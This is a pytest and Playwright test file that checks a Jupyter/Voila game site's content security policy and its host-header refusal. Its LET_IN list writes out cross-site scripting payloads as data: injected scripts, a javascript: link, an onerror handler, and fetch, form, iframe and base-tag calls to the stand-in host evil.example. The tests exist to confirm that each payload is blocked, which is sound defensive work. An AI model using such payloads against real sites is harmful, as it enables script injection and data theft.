"""Under the policy of our pages everything works, and nothing that is not ours runs."""

import json
import os
import random
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any
from urllib.error import HTTPError
from urllib.request import Request, urlopen

import pytest
from playwright.sync_api import Browser, Page, expect

from tools.static_site.fetch import SiteError
from tools.static_site.lite import guarded
from vk_notebook.site import build

from .conftest import close, voila_on
from .playing import offered, painted, press, rev, wanted

LetIn = Callable[[list[tuple[str, str]]], None]
#: What a page loads of JupyterLab's extensions: those that show widgets.
WIDGETS = ["@jupyter-widgets/jupyterlab-manager", "@voila-dashboards/widgets-manager8", "anywidget"]
#: Keeps what the policy refuses from the first line of the page on.
LISTEN = """
window.refused = [];
addEventListener("securitypolicyviolation",
  (e) => window.refused.push(`${e.effectiveDirective} ${e.blockedURI} ${e.sourceFile || ""}:${e.lineNumber}`));
"""
#: What somebody could get into a page who found a way: each as the part of the policy that it meets, and its doing;
#: `e` is a place on the page, `add` puts an element of that kind there.
LET_IN = [
    ("script-src-elem", "add('script', {textContent: 'hurt=1'})"),
    ("script-src-elem", "add('script', {src: 'https://evil.example/a.js'})"),
    ("script-src-elem", "add('a', {href: 'javascript:hurt=1'}).click()"),
    ("script-src-attr", "e.innerHTML = '<img src=/none.png onerror=\"hurt=1\">'"),
    ("script-src", "setTimeout('hurt=1')"),
    ("img-src", "add('img', {src: 'https://evil.example/a.png'})"),
    ("style-src-elem", "add('link', {rel: 'stylesheet', href: 'https://evil.example/a.css'})"),
    ("connect-src", "fetch('https://evil.example/').catch(() => 0)"),
    ("frame-src", "add('iframe', {src: 'https://evil.example/'})"),
    ("object-src", "add('object', {data: 'https://evil.example/a'})"),
    ("form-action", "add('form', {action: 'https://evil.example/'}).requestSubmit()"),
    ("base-uri", "add('base', {href: 'https://evil.example/'})"),
]
PLACE = """() => {
  refused.length = 0;
  const e = document.getElementById('e') || document.body.appendChild(document.createElement('div'));
  e.id = 'e';
  const add = (name, more) => e.appendChild(Object.assign(document.createElement(name), more));
  DOING;
}"""


@pytest.fixture
def watched(page: Page) -> Page:
    """A page that tells what its policy refused."""
    page.add_init_script(LISTEN)
    page.set_default_timeout(30_000)
    return page


def kernel_of(page: Page) -> str:
    said: dict[str, Any] = json.loads(page.locator("#jupyter-config-data").text_content() or "{}")
    return str(said["kernelId"])


def test_a_game_a_file_and_a_replay_under_the_policy(watched: Page, voila: Any) -> None:
    """Moves, the settings, a saved and a loaded file, a replay with its export: nothing of it is refused.

    When the page is closed its kernel ends, although the server asks for proof that the page says so.
    """
    page = watched
    page.goto(f"{voila.url}?players=Ana,Ben&bots=Ben:collector&seed=7&start=1")
    expect(page.locator("[data-zone=pyramid]")).to_be_visible()
    rng = random.Random(7)
    for _ in range(8):
        before = rev(page)
        press(page, wanted(offered(page), rng))
        painted(page, before)
    page.locator("[data-act=settings]").click()
    page.locator("[name=theme]").select_option("dark")
    page.keyboard.press("Escape")
    with page.expect_download() as saved:
        page.locator(".vk-tools [data-act=save]").click()
    assert Path(saved.value.path()).stat().st_size > 500
    assert page.evaluate("refused") == []
    page.goto(f"{voila.url}?replay=boat&step=5")
    page.locator("[data-go=next]").click()
    expect(page.locator("[data-step='6']").first).to_be_visible()
    assert page.evaluate("refused") == []
    kernel = kernel_of(page)
    assert alive(voila.url, kernel)
    other = page.context.new_page()  # a browser without a page would end with the last one, its message unsent
    close(page)
    for _ in range(300):
        if not alive(voila.url, kernel):
            break
        other.wait_for_timeout(100)
    assert not alive(voila.url, kernel)


def alive(url: str, kernel: str) -> bool:
    try:
        with urlopen(f"{url}api/kernels/{kernel}", timeout=30) as answer:
            return bool(answer.status == 200)
    except HTTPError as refused:
        refused.close()
        return False


def test_a_foreign_name_that_leads_here_is_refused(voila: Any) -> None:
    """So a page of another host, whose name was made to lead to this computer, reads nothing and starts nothing."""
    for host in ("evil.example", "127.0.0.1.evil.example", "192.0.2.7"):
        with pytest.raises(HTTPError) as refused:
            urlopen(Request(voila.url, headers={"Host": host}), timeout=30)
        with refused.value as answer:
            assert answer.code == 403


@pytest.fixture
def let_in(chromium: Browser) -> Iterator[tuple[Page, LetIn]]:
    """A page, and what tries there each of these; nothing of it may have reached another host."""
    context = chromium.new_context()
    context.add_init_script(LISTEN)
    asked: list[str] = []
    context.route("https://evil.example/**", lambda route: (asked.append(route.request.url), route.abort()))
    page = context.new_page()
    page.set_default_timeout(30_000)

    def each(rows: list[tuple[str, str]]) -> None:
        for part, doing in rows:
            page.evaluate(PLACE.replace("DOING", doing))
            page.wait_for_function("() => refused.length > 0")
            assert [one.split()[0] for one in page.evaluate("refused")] == [part], doing
            assert page.evaluate("typeof hurt") == "undefined", doing

    yield page, each
    assert asked == []
    context.close()


def test_what_is_let_into_a_page_does_nothing(let_in: tuple[Page, LetIn], voila: Any) -> None:
    """Should a text become markup one day, it can neither run nor call home."""
    page, each = let_in
    page.goto(voila.url)
    expect(page.locator("[data-act=start]")).to_be_visible()
    each(LET_IN)


def somebodys_extension(folder: Path) -> None:
    """What `pip install` of something for JupyterLab may leave beside our widgets: a script that fails under Voila."""
    place = folder / "labextensions" / "somebodys"
    (place / "static").mkdir(parents=True)
    told = {"name": "somebodys", "version": "1.0.0", "jupyterlab": {"_build": {"load": "static/entry.js"}}}
    (place / "package.json").write_text(json.dumps(told), encoding="utf-8")
    (place / "static" / "entry.js").write_text("throw new Error('somebody\'s script runs here');", encoding="utf-8")


@pytest.fixture(scope="module")
def lessons(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """Voila on all notebooks, on a machine that has more of Jupyter than Voila needs."""
    folder = tmp_path_factory.mktemp("lessons")
    somebodys_extension(folder)
    paths = os.pathsep.join(filter(None, [str(folder), os.environ.get("JUPYTER_PATH")]))
    with voila_on("notebooks", folder, VK_PROGRESS=str(folder / "progress.json"), JUPYTER_PATH=paths) as server:
        yield server.url


def test_the_lessons_under_the_policy(watched: Page, lessons: str) -> None:
    """The list leads to the start page, and a lesson stands with its boards."""
    watched.goto(lessons)
    watched.wait_for_url("**/00_start_here.ipynb")
    expect(watched.locator("h1").first).to_be_visible()
    assert watched.evaluate("refused") == []
    link = watched.locator("a[href*='01']").first.get_attribute("href")
    assert link
    watched.goto(f"{lessons}voila/render/{link.rsplit('/', 1)[-1]}")
    expect(watched.locator(".vk-board").first).to_be_visible()
    assert watched.evaluate("refused") == []
    told = json.loads(watched.locator("#jupyter-config-data").text_content() or "{}")
    assert sorted(one["name"] for one in told["federated_extensions"]) == WIDGETS


@pytest.mark.parametrize("name", ["index.html", "rulebook.html", "cards.html"])
def test_the_pages_of_the_site_under_their_policy(watched: Page, tmp_path: Path, name: str) -> None:
    """Read from the disk, which is the strictest place: their own script runs, the hieroglyphs are drawn, no other."""
    build(tmp_path)
    watched.goto((tmp_path / name).as_uri())
    watched.evaluate("() => document.fonts.ready.then(() => 0)")
    assert watched.evaluate("refused") == []
    if name != "index.html":
        box = watched.locator("input[type=search]")
        box.fill("no such word anywhere")
        expect(watched.locator("[data-find], .rule").locator("visible=true")).to_have_count(0)
    watched.evaluate("document.body.append(Object.assign(document.createElement('script'), {textContent: 'hurt=1'}))")
    watched.wait_for_function("() => refused.length > 0")
    assert watched.evaluate("typeof hurt") == "undefined"


def test_the_lessons_without_a_server_ask_no_other_host(let_in: tuple[Page, LetIn], tmp_path: Path) -> None:
    """Their own scripts and what those evaluate run; what would fetch from elsewhere, or send there, fails."""
    page, each = let_in
    place = tmp_path / "index.html"
    place.write_text(guarded("<html><head><script>here = Function('return 1')()</script></head><body></body></html>"))
    page.goto(place.as_uri())
    assert page.evaluate("here") == 1
    assert page.evaluate("refused") == []
    each([row for row in LET_IN if "evil.example" in row[1]])


def test_a_page_without_a_head_cannot_carry_a_policy() -> None:
    """It is refused while the site is built, not found out later."""
    with pytest.raises(SiteError, match="no head"):
        guarded("<html><body></body></html>")
